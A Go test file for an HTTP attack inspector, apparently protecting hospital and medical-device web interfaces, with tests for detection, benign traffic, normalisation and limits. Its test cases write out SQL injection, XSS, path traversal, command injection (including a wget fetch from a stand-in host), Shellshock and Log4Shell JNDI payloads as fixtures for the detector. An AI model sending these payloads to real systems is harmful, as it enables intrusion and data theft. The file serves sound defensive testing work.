package webattack

import (
	"fmt"
	"net/url"
	"strings"
	"testing"

	httpproto "github.com/heir-emd/heir/internal/proto/http"
)

func get(target string, headers ...string) *httpproto.RawRequest {
	head := "GET " + target + " HTTP/1.1\r\nHost: device\r\n" + strings.Join(headers, "") + "\r\n"
	return &httpproto.RawRequest{Method: "GET", Target: []byte(target), Head: []byte(head)}
}

func post(ctype, body string) *httpproto.RawRequest {
	head := "POST /api HTTP/1.1\r\nHost: device\r\nContent-Type: " + ctype + "\r\n\r\n"
	return &httpproto.RawRequest{Method: "POST", Target: []byte("/api"), Head: []byte(head),
		ContentType: []byte(ctype), Body: []byte(body)}
}

func verdicts(in *Inspector, r *httpproto.RawRequest) string {
	var parts []string
	for _, a := range in.Inspect(r, nil) {
		parts = append(parts, fmt.Sprintf("%s/%s@%s:%s", a.Class, a.Rule, a.Where, a.Param))
	}
	return strings.Join(parts, " ")
}

// Attacks written the way tools and exploit write-ups send them, each
// with the class and place it must be reported with.
func TestAttacks(t *testing.T) {
	in := New(DefaultConfig())
	cases := []struct {
		req  *httpproto.RawRequest
		want string // class/…@where:param that must be among the verdicts
	}{
		{get("/login.php?user=admin%27%20OR%20%271%27%3D%271&pw=x"), "sqli/sqli-tautology@query:user"},
		{get("/item?id=1+UNION+ALL+SELECT+NULL,version()--"), "sqli/sqli-union@query:id"},
		{get("/item?id=1%2520union%2520select%25201,2"), "sqli/sqli-union@query:id"},                    // double encoded
		{get("/item?id=1/**/UnIoN/**/SeLeCt/**/password/**/from/**/users"), "sqli/sqli-union@query:id"}, // comments as spaces
		{get("/item?id=1%20AND%20SLEEP(5)"), "sqli/sqli-function@query:id"},
		{get("/item?id=1;DROP%20TABLE%20patients"), "sqli/sqli-stacked@query:id"},
		{get("/q?name=admin'--"), "sqli/sqli-comment@query:name"},
		{get("/q?id=1%20or%201=1"), "sqli/sqli-numeric-tautology@query:id"},
		{get("/q?id=1%20/*!50000union*/%20select%201"), "sqli/sqli-union@query:id"},
		{get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"), "xss/xss-script@query:q"},
		{get("/search?q=%26lt;img%20src=x%20onerror=alert(1)%26gt;"), "xss/xss-handler@query:q"},
		{get("/search?q=%26%2360%3Bsvg%2Fonload%3Dalert(1)%26%2362%3B"), "xss/xss-handler@query:q"}, // entities inside percent
		{get("/r?next=javascript:alert(document.cookie)"), "xss/xss-uri@query:next"},
		{get("/a?x=\"%20onmouseover=\"alert(1)"), "xss/xss-handler@query:x"},
		{get("/../../../../etc/passwd"), "path-traversal/traversal-dotdot@path:"},
		{get("/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd"), "path-traversal/traversal-dotdot@path:"},
		{get("/static/..%c0%af..%c0%afwindows/win.ini"), "path-traversal/traversal-dotdot@path:"},
		{get("/download?file=....//....//etc/shadow"), "path-traversal/traversal-file@query:file"},
		{get("/dl?f=..%5c..%5cboot.ini"), "path-traversal/traversal-dotdot@query:f"},
		{get("/ping?host=127.0.0.1;cat%20/etc/passwd"), "command-injection/cmdi-chain@query:host"},
		{get("/ping?host=127.0.0.1%7C%7Cwhoami"), "command-injection/cmdi-chain@query:host"},
		{get("/ping?host=%60id%60"), "command-injection/cmdi-chain@query:host"},
		{get("/ping?host=$(wget%20http://198.51.100.1/x.sh)"), "command-injection/cmdi-chain@query:host"},
		{get("/cgi-bin/status", "User-Agent: () { :; }; /bin/bash -c 'id'\r\n"), "command-injection/cmdi-shellshock@header:User-Agent"},
		{get("/", "User-Agent: ${jndi:ldap://198.51.100.1:1389/a}\r\n"), "jndi-injection/jndi-lookup@header:User-Agent"},
		{get("/", "X-Api-Version: ${${lower:j}${::-n}d${upper:i}:rmi://x/a}\r\n"), "jndi-injection/jndi-lookup@header:X-Api-Version"},
		{get("/?q=%24%7Bjndi%3Adns%3A%2F%2Fx.example%2Fa%7D"), "jndi-injection/jndi-lookup@query:q"},
		{get("/", "Cookie: theme=dark; sid=1'%20or%20'a'='a\r\n"), "sqli/sqli-tautology@header:cookie:sid"},
		{post("application/x-www-form-urlencoded", "user=x&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E"), "xss/xss-script@body:comment"},
		{post("application/json", `{"patient":{"family":"x\u0027 OR \u00271\u0027=\u00271"}}`), "sqli/sqli-tautology@body:family"},
		{post("text/plain", "${jndi:ldap://x/y}"), "jndi-injection/jndi-lookup@body:"},
		{get("/q?%3Cscript%3E=1"), "xss/xss-script@query:"},
	}
	for _, c := range cases {
		got := verdicts(in, c.req)
		if !strings.Contains(" "+got+" ", " "+c.want+" ") {
			t.Errorf("%s %s: got [%s], want %s", c.req.Target, c.req.Body, got, c.want)
		}
	}
}

// Ordinary hospital and device-UI traffic raises nothing.
func TestBenign(t *testing.T) {
	in := New(DefaultConfig())
	reqs := []*httpproto.RawRequest{
		get("/fhir/Patient?family=O%27Brien&given=Sean&birthdate=ge1950-01-01&_count=20"),
		get("/fhir/Observation?patient=Patient/123&code=http://loinc.org|8867-4&_sort=-date&_include=Observation:patient"),
		get("/api/v1/devices/PUMP-603/status?fields=battery,rate,alarm"),
		get("/search?q=rock+and+roll&lang=en-GB"),
		get("/search?q=Tom%20and%20Jerry%20(1940)"),
		get("/report?from=2024-01-01T00:00:00Z&to=2024-01-02&tz=Europe/Paris"),
		get("/files/2024/scan_001.dcm?v=3.1.4"),
		get("/logs?filter=error|warning&path=/var/log/device"),
		get("/msg?text=Hello;%20how%20are%20you%3F%20It%27s%20fine"),
		get("/calc?expr=(a%2Bb)*c&email=nurse%40hospital.example"),
		get("/wiki/Main_Page?action=edit&section=2#top"),
		get("/", "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\r\n",
			"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8\r\n",
			"Accept-Language: en-GB,en;q=0.9\r\n", "Referer: http://pm8000.local/index.html?tab=alarms\r\n",
			"Cookie: session=abc123; theme=dark; last=2024-01-01\r\n", "Authorization: Basic YWRtaW46JyBvciAnMSc9JzE=\r\n"),
		get("/cgi-bin/luci/;stok=abc/admin/status"),
		post("application/json", `{"resourceType":"Patient","name":[{"family":"O'Connor","given":["Mary-Jane"]}],"birthDate":"1970-01-01","telecom":[{"system":"phone","value":"+33 1 23 45 67 89"}]}`),
		post("application/x-www-form-urlencoded", "username=nurse&password=P%40ss%3Bword%21&remember=on"),
		post("application/xml", `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><GetStatus/></soap:Body></soap:Envelope>`),
		post("multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.js\"\r\n\r\n<script>alert(1)</script>\r\n--x--"),
	}
	for _, r := range reqs {
		if got := verdicts(in, r); got != "" {
			t.Errorf("%s %q: false verdicts [%s]", r.Target, r.Body, got)
		}
	}
}

// The Authorization header is never looked at: the password inside the
// Basic string above decodes to an injection, and must not be read.
func TestCredentialsNotInspected(t *testing.T) {
	in := New(DefaultConfig())
	r := get("/", "Authorization: Basic JyBvciAnMSc9JzE=\r\n", "Proxy-Authorization: ${jndi:ldap://x/a}\r\n")
	if got := verdicts(in, r); got != "" {
		t.Errorf("verdicts on credentials: %s", got)
	}
}

// Verdicts name parameters, never values, and a name that is not a name
// is not echoed.
func TestVerdictsCarryNoValues(t *testing.T) {
	in := New(DefaultConfig())
	secret := "MRN7178673"
	r := get("/q?pid="+secret+"%27%20or%20%271%27=%271&"+url.QueryEscape("a'or'1'='1"+secret)+"=x", "X-"+secret+": ${jndi:ldap://a/b}\r\n")
	for _, a := range in.Inspect(r, nil) {
		if strings.Contains(fmt.Sprint(a), secret) && a.Param != "X-"+secret {
			t.Errorf("value in verdict %+v", a)
		}
	}
}

func TestConfigDisablesClasses(t *testing.T) {
	in := New(Config{Enabled: map[string]bool{XSS: true}})
	r := get("/q?a=1%20union%20select%201&b=%3Cscript%3E")
	if got := verdicts(in, r); got != "xss/xss-script@query:b" {
		t.Errorf("got [%s]", got)
	}
	in.SetConfig(Config{})
	if got := verdicts(in, r); got != "" {
		t.Errorf("disabled inspector gave [%s]", got)
	}
}

// The work per request is bounded: a huge query is cut at MaxParams
// parameters and MaxBytes bytes.
func TestBounded(t *testing.T) {
	in := New(DefaultConfig())
	var b strings.Builder
	b.WriteString("/q?")
	for i := 0; i < 10*MaxParams; i++ {
		fmt.Fprintf(&b, "p%d=%s&", i, strings.Repeat("a", 100))
	}
	b.WriteString("last=1%20union%20select%201")
	in.Inspect(get(b.String()), nil)
	st := in.Stats()
	if st.Values > MaxParams+2 || st.Truncated == 0 {
		t.Errorf("stats %+v", st)
	}
}

func TestNormalise(t *testing.T) {
	in := New(DefaultConfig())
	cases := map[string]string{
		"%253Cscript%253E":       "<script>",
		"A%2bB+C":                "a+b c",
		"%u003cSVG":              "<svg",
		"&#x3C;&#60&lt;&amp;lt;": "<<<&lt;",
		"un/**/ion":              "un ion",
		"x%00y":                  "xy",
		"${${lower:J}ndi:x}":     "${jndi:x}",
		"%":                      "%",
		"%zz%4":                  "%zz%4",
	}
	for raw, want := range cases {
		if got := string(in.normalise([]byte(raw), true)); got != want {
			t.Errorf("normalise(%q) = %q, want %q", raw, got, want)
		}
	}
}

func BenchmarkInspectBenign(b *testing.B) {
	in := New(DefaultConfig())
	r := get("/fhir/Observation?patient=Patient/123&code=http://loinc.org|8867-4&_sort=-date&_count=50",
		"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\r\n",
		"Accept: application/fhir+json\r\n", "Cookie: session=abc123; theme=dark\r\n")
	var dst []httpproto.Attack
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		dst = in.Inspect(r, dst[:0])
	}
}

func BenchmarkInspectAttack(b *testing.B) {
	in := New(DefaultConfig())
	r := get("/item?id=1%20UNION%20SELECT%20password%20FROM%20users--&q=%3Cscript%3Ealert(1)%3C/script%3E",
		"User-Agent: ${jndi:ldap://x/a}\r\n")
	var dst []httpproto.Attack
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		dst = in.Inspect(r, dst[:0])
	}
}
